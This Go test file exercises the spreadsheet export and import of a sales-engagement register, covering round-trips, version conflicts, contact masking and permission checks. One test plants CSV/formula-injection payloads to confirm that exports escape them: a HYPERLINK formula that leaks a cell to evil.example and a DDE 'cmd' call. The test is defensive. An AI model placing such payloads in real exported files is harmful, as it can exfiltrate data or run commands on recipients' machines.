package transfer_test

import (
	"bytes"
	"context"
	"encoding/json"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/dealtrail/dealtrail/salesrec"
	"github.com/dealtrail/dealtrail/salesrec/workbook"
	"github.com/dealtrail/dealtrail/storage"
	"github.com/dealtrail/dealtrail/storage/transfer"
)

// comparable is what an export carries of e: ids, text, formats, outcomes;
// recorded-at times to the minute.
func comparable(t *testing.T, e salesrec.Engagement) string {
	t.Helper()
	e.TeamID, e.CustomerID, e.Version = "", "", 0
	e.CreatedAt, e.UpdatedAt = time.Time{}, time.Time{}
	e.Interactions = append([]salesrec.Interaction(nil), e.Interactions...)
	for i := range e.Interactions {
		e.Interactions[i].RecordedAt = e.Interactions[i].RecordedAt.Truncate(time.Minute).UTC()
		e.Interactions[i].OccurredAt = e.Interactions[i].OccurredAt.UTC()
	}
	e.Remarks = append([]salesrec.Remark(nil), e.Remarks...)
	for i := range e.Remarks {
		e.Remarks[i].At = e.Remarks[i].At.Truncate(time.Minute).UTC()
		e.Remarks[i].AuthorID = ""
	}
	for i := range e.Actions {
		e.Actions[i].OwnerID = ""
	}
	e.OwnerID = ""
	for i := range e.Interactions {
		e.Interactions[i].SalesParticipants = nil
	}
	b, err := json.Marshal(e)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// TestRoundTripThroughStores: a team's register exported from one store
// and imported into another holds the same engagements (ids, text,
// formats, outcomes, recorded-at times and late marks), each with its
// source in the history.
func TestRoundTripThroughStores(t *testing.T) {
	from := newOffice(t, 12)
	file := from.export(t, from.manager).Bytes()
	to := newOffice(t, 0)
	rep := importFile(t, to.st, to.manager, file, transfer.Options{})
	checkCopied(t, from, to, rep, func(source string) bool { return strings.HasPrefix(source, "台账.xlsx 业务!A") })
}

// checkCopied checks that the import rep into to created every engagement
// of from as it was, each with one history entry whose source fromFile
// accepts.
func checkCopied(t *testing.T, from, to *office, rep workbook.Report, fromFile func(source string) bool) {
	t.Helper()
	ctx := context.Background()
	if !rep.OK() || rep.Created != len(from.es) {
		t.Fatalf("import into a fresh store: %s", rep.Text(salesrec.EN))
	}
	for _, want := range from.es {
		got, err := to.st.Engagement(ctx, to.manager.ID, want.ID)
		if err != nil {
			t.Fatalf("engagement %s not imported with its id: %v", want.ID, err)
		}
		if g, w := comparable(t, got), comparable(t, want); g != w {
			t.Fatalf("engagement %s differs:\n got: %s\nwant: %s", want.ID, g, w)
		}
		for i, in := range got.Interactions {
			if in.Late != want.Interactions[i].Late {
				t.Fatalf("engagement %s contact %d: late %v, want %v", want.ID, i, in.Late, want.Interactions[i].Late)
			}
		}
		h, err := to.st.History(ctx, to.manager.ID, want.ID)
		if err != nil || len(h) != 1 || !fromFile(h[0].Source) {
			t.Fatalf("history of %s: %+v %v, want one entry from the file", want.ID, h, err)
		}
	}
}

// TestImportTwiceChangesNothing: the same file again leaves every
// engagement as it was; an edited cell updates its engagement from its
// version, with a history entry naming the row.
func TestImportTwiceChangesNothing(t *testing.T) {
	ctx := context.Background()
	o := newOffice(t, 6)
	file := o.export(t, o.manager).Bytes()
	var progress []string
	rep := importFile(t, o.st, o.manager, file, transfer.Options{BatchSize: 4, Progress: func(done, total int) {
		progress = append(progress, strings.Join([]string{itoa(done), itoa(total)}, "/"))
	}})
	if rep.Unchanged != 6 || rep.Created+rep.Updated+rep.Refused != 0 {
		t.Fatalf("re-importing an export: %s", rep.Text(salesrec.EN))
	}
	if strings.Join(progress, " ") != "4/6 6/6" {
		t.Fatalf("progress %v, want 4/6 6/6", progress)
	}

	f, err := excelize.OpenReader(bytes.NewReader(file))
	if err != nil {
		t.Fatal(err)
	}
	if err := f.SetCellValue("业务", "E3", "确认客户的采购预算与决策链"); err != nil {
		t.Fatal(err)
	}
	id, _ := f.GetCellValue("业务", "A3")
	var edited bytes.Buffer
	if _, err := f.WriteTo(&edited); err != nil {
		t.Fatal(err)
	}
	rep = importFile(t, o.st, o.manager, edited.Bytes(), transfer.Options{DryRun: true})
	if rep.Updated != 1 || !rep.DryRun {
		t.Fatalf("dry run of an edit: %s", rep.Text(salesrec.EN))
	}
	if e, _ := o.st.Engagement(ctx, o.manager.ID, id); e.Goal == "确认客户的采购预算与决策链" {
		t.Fatal("a dry run wrote the edit")
	}
	rep = importFile(t, o.st, o.manager, edited.Bytes(), transfer.Options{})
	if rep.Updated != 1 || rep.Unchanged != 5 {
		t.Fatalf("importing an edit: %s", rep.Text(salesrec.EN))
	}
	h, err := o.st.History(ctx, o.manager.ID, id)
	if err != nil || len(h) != 2 || h[1].Source != "台账.xlsx 业务!A3" || h[1].Op != salesrec.OpUpdate {
		t.Fatalf("history after the edit: %+v %v", h, err)
	}
	rep = importFile(t, o.st, o.manager, edited.Bytes(), transfer.Options{})
	if rep.Unchanged != 6 {
		t.Fatalf("the edit imported twice: %s", rep.Text(salesrec.EN))
	}
	if err := f.SetCellValue("业务", "E3", "确认客户的预算审批流程"); err != nil {
		t.Fatal(err)
	}
	var stale bytes.Buffer
	if _, err := f.WriteTo(&stale); err != nil {
		t.Fatal(err)
	}
	rep = importFile(t, o.st, o.manager, stale.Bytes(), transfer.Options{})
	if rep.Refused != 1 || len(rep.Problems) != 1 || rep.Problems[0].Where() != "业务!O3" {
		t.Fatalf("another edit of the file exported at version 1: %s", rep.Text(salesrec.EN))
	}
}

func itoa(n int) string { return strconv.Itoa(n) }

// TestExportAsTheMember: a rep's export holds only the engagements they
// take part in, with the phone and email of a customer whose engagement
// they do not own masked, as the store masks them; a manager's holds the
// team.
func TestExportAsTheMember(t *testing.T) {
	o := newOffice(t, 6)
	real, masked := o.rep2TakesPart(t)
	f, err := excelize.OpenReader(o.export(t, o.rep2))
	if err != nil {
		t.Fatal(err)
	}
	rows, err := f.GetRows("业务")
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 1+3 {
		t.Fatalf("rep's export has %d engagements, want 3 (two owned, one taken part in)", len(rows)-1)
	}
	customers, err := f.GetRows("客户")
	if err != nil {
		t.Fatal(err)
	}
	checkMasked(t, customers, real, masked)
	all, err := excelize.OpenReader(o.export(t, o.manager))
	if err != nil {
		t.Fatal(err)
	}
	if rows, _ := all.GetRows("业务"); len(rows) != 7 {
		t.Fatalf("manager's export has %d engagements, want 6", len(rows)-1)
	}
}

// rep2TakesPart makes rep2 a participant of the manager's first
// engagement, whose customer the store masks for rep2, and returns the
// customer's first contact as stored and as rep2 sees it.
func (o *office) rep2TakesPart(t *testing.T) (real, masked salesrec.Contact) {
	t.Helper()
	ctx := context.Background()
	e := o.es[0] // the manager's, with o.customer
	e.Interactions[0].SalesParticipants = append(e.Interactions[0].SalesParticipants,
		salesrec.SalesParticipant{MemberID: o.rep2.ID, Name: o.rep2.Name, Role: "技术支持"})
	if _, err := o.st.UpdateEngagement(ctx, o.manager.ID, e); err != nil {
		t.Fatal(err)
	}
	seen, err := o.st.Customer(ctx, o.rep2.ID, o.customer.ID)
	if err != nil {
		t.Fatal(err)
	}
	real, masked = o.customer.Contacts[0], seen.Contacts[0]
	if masked.Phone == real.Phone {
		t.Fatal("the store does not mask this customer for the rep: the test is void")
	}
	return real, masked
}

// checkMasked finds the row of contact real among rows (联系人 in column G,
// 电话 and 邮箱 in I and J, as on the 客户 sheet and a form's 客户基础信息)
// and checks that it carries masked's phone and email and not real's.
func checkMasked(t *testing.T, rows [][]string, real, masked salesrec.Contact) {
	t.Helper()
	found := false
	for _, r := range rows {
		if len(r) > 9 && r[6] == real.Name {
			found = true
			if r[8] != masked.Phone || r[9] != masked.Email || strings.Contains(strings.Join(r, " "), real.Phone) {
				t.Fatalf("rep's export has phone %q email %q, want the masks %q %q", r[8], r[9], masked.Phone, masked.Email)
			}
		}
	}
	if !found {
		t.Fatal("the customer's contact is missing from the rep's export")
	}
}

// TestFormulaTextExportedAsText: text a spreadsheet would run as a formula
// is written after an apostrophe, in .xlsx and CSV, and reads back as the
// same text.
func TestFormulaTextExportedAsText(t *testing.T) {
	ctx := context.Background()
	o := newOffice(t, 1)
	e := o.es[0]
	e.Goal = `=HYPERLINK("http://evil.example/?"&A1,"确认预算")`
	e.Needs[0].Content = `=cmd|' /C calc'!A0 需要多数据源实时对接`
	e.Actions[0].What = "@SUM(1+1) 发送定制方案初稿"
	e, err := o.st.UpdateEngagement(ctx, o.manager.ID, e)
	if err != nil {
		t.Fatal(err)
	}
	file := o.export(t, o.manager)
	f, err := excelize.OpenReader(bytes.NewReader(file.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct{ sheet, cell string }{{"业务", "E2"}, {"需求", "D2"}, {"跟进计划", "C2"}} {
		v, _ := f.GetCellValue(c.sheet, c.cell)
		formula, _ := f.GetCellFormula(c.sheet, c.cell)
		if !strings.HasPrefix(v, "'") || formula != "" {
			t.Fatalf("%s!%s = %q (formula %q), want text after an apostrophe", c.sheet, c.cell, v, formula)
		}
	}
	rep := importFile(t, o.st, o.manager, file.Bytes(), transfer.Options{})
	if rep.Unchanged != 1 {
		t.Fatalf("the guarded export read back differently: %s", rep.Text(salesrec.EN))
	}
}

// TestImportRefusesWhatTheImporterMayNot: an id of another team's
// engagement is not found; a rep cannot import an engagement of another
// member; each refusal names its cell and nothing of it is written.
func TestImportRefusesWhatTheImporterMayNot(t *testing.T) {
	ctx := context.Background()
	theirs := newOffice(t, 1)
	file := theirs.export(t, theirs.manager).Bytes()
	ours := newOffice(t, 3)
	// Their file names customers and owners by name: give our team the same names.
	rep := importFile(t, ours.st, ours.manager, file, transfer.Options{})
	if rep.Created != 1 {
		t.Fatalf("a new id from another store is created: %s", rep.Text(salesrec.EN))
	}
	// The same id, now ours, imported by the other team's store is theirs; by
	// a third team in our store it names nothing.
	other, err := ours.st.CreateTeam(ctx, salesrec.Team{Name: "华南二组"})
	if err != nil {
		t.Fatal(err)
	}
	outsider, err := ours.st.AddMember(ctx, salesrec.Member{TeamID: other.ID, Name: "王经理", Role: salesrec.RoleManager})
	if err != nil {
		t.Fatal(err)
	}
	rep = importFile(t, ours.st, outsider, file, transfer.Options{})
	if rep.Refused != 1 || rep.Problems[0].Where() != "业务!A2" {
		t.Fatalf("another team's id: %s", rep.Text(salesrec.EN))
	}
	if got, err := ours.st.Engagement(ctx, ours.manager.ID, theirs.es[0].ID); err != nil || got.Version != 1 {
		t.Fatalf("another team's import touched our engagement: %v %v", got.Version, err)
	}

	mine := newOffice(t, 3)
	file = mine.export(t, mine.manager).Bytes()
	fresh := newOffice(t, 0)
	rep = importFile(t, fresh.st, fresh.rep1, file, transfer.Options{})
	if rep.Created != 1 || rep.Refused != 2 {
		t.Fatalf("a rep importing the team's register: %s", rep.Text(salesrec.EN))
	}
	for _, p := range rep.Problems {
		if !strings.HasPrefix(p.Where(), "业务!C") {
			t.Fatalf("refusal at %s, want the 负责人 cell: %s", p.Where(), p.Text(salesrec.EN))
		}
	}
	if n, _ := fresh.st.CountEngagements(ctx, fresh.manager.ID, storage.Filter{}); n != 1 {
		t.Fatalf("%d engagements written, want only the rep's own", n)
	}
}

// TestAtomicImportWritesNothingOnAProblem: with Atomic, one bad row keeps
// the whole file out.
func TestAtomicImportWritesNothingOnAProblem(t *testing.T) {
	ctx := context.Background()
	o := newOffice(t, 4)
	f, err := excelize.OpenReader(o.export(t, o.manager))
	if err != nil {
		t.Fatal(err)
	}
	if err := f.SetCellValue("业务", "C4", "不存在的人"); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if _, err := f.WriteTo(&buf); err != nil {
		t.Fatal(err)
	}
	fresh := newOffice(t, 0)
	rep := importFile(t, fresh.st, fresh.manager, buf.Bytes(), transfer.Options{Atomic: true})
	if rep.Refused == 0 || !rep.DryRun || rep.Problems[0].Where() != "业务!C4" {
		t.Fatalf("atomic import with an unknown owner: %s", rep.Text(salesrec.EN))
	}
	if n, _ := fresh.st.CountEngagements(ctx, fresh.manager.ID, storage.Filter{}); n != 0 {
		t.Fatalf("atomic import with a bad row wrote %d engagements", n)
	}
}
